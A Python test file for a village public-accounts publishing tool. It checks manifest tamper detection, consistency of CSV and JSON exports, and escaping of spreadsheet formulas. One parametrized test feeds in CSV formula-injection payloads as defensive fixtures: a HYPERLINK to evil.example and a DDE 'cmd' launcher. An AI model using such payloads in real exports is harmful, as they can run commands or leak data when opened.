"""The open data files are published files like pages: the manifest lists them and verify
finds one that was altered or removed (a tampered amount in a CSV matters as much as on a page)."""

from __future__ import annotations

import json

import pytest
from test_indexno import git
from test_manifest import commit, publish
from tinyrepo import BALANCED_LEDGER, SITE_YML, buildable, make_repo

from gongkai import manifest
from gongkai.manifest import CHANGED, MISSING

CSV = "data/records/village/cun/ledger/income.csv"


def test_verify_vouches_for_every_download_and_finds_a_tampered_one(tmp_path):
    repo = make_repo(tmp_path / "repo")
    repo.write("content/site.yml", SITE_YML + "base_url: https://gongkai.example/\n")
    buildable(repo)
    git(repo.root, "init", "-q", "-b", "main")
    repo.record("ledger.md", BALANCED_LEDGER)
    commit(repo.root, "村务公开：2013年12月", "2014-01-08")
    site = publish(repo.root, tmp_path / "site")
    listed = json.loads((site / "demo" / manifest.MANIFEST).read_text("utf-8"))
    for name in (CSV, "data/records/village/cun/ledger.json", "data/records.csv", "data/units/cun.json"):
        assert name in listed["files"], name
    assert "data/index.html" in listed["pages"]
    assert manifest.verify(repo.root, str(site)) == []

    data = (site / "demo" / CSV).read_bytes()
    (site / "demo" / CSV).write_bytes(data.replace(b"5000.0", b"500.0"))
    (site / "demo" / "data" / "units" / "cun.json").unlink()
    found = manifest.verify(repo.root, str(site))
    assert [(d.kind, d.path) for d in found] == [(CHANGED, CSV), (MISSING, "data/units/cun.json")]


def test_lists_made_from_rows_are_the_bytes_of_the_whole_list():
    """list_files joins rows encoded once (list_rows); it must give what list_csv and
    json_bytes give for the whole list, whatever the rows hold."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from gongkai import opendata

    value = st.one_of(st.text(alphabet=st.sampled_from(['a', '公', '"', ',', '\n', '\r', ' ', '1', '\\']), max_size=5),
                      st.none(), st.booleans(), st.integers(-5, 5), st.floats(allow_nan=False, allow_infinity=False))
    entry = st.dictionaries(st.sampled_from([k for k, _ in opendata.LIST_COLUMNS] + ["other"]), value)

    @settings(max_examples=300, deadline=None)
    @given(st.text(max_size=4), st.lists(entry, max_size=6))
    def same(title, entries):
        csv_data, json_data = opendata.list_files(title, opendata.list_rows(entries))
        assert csv_data == opendata.list_csv(entries)
        assert json_data == opendata.json_bytes({"title": title, "count": len(entries), "records": entries})

    same()


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x","点击查看详情")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"])
def test_a_text_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(text):
    """Excel and WPS read a cell starting with = + - @ as a formula; the JSON keeps the text."""
    import csv as csv_module
    import io

    from gongkai import opendata

    entry = {key: "" for key, _ in opendata.LIST_COLUMNS} | {"title": text}
    for data in (opendata.list_csv([entry]), opendata.list_files("清单", opendata.list_rows([entry]))[0],
                 opendata.csv_bytes(["标题", "金额"], [[text, -5]])):
        rows = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig"))))
        cell = rows[1][[k for k, _ in opendata.LIST_COLUMNS].index("title")] if len(rows[1]) > 2 else rows[1][0]
        assert cell == "'" + text, data
    assert b"-5" in opendata.csv_bytes(["金额"], [[-5]]) and b"'-5" not in opendata.csv_bytes(["金额"], [["-5"]])
    assert opendata.list_rows([entry])[0][1] == json.dumps(entry, ensure_ascii=False, separators=(",", ":"))
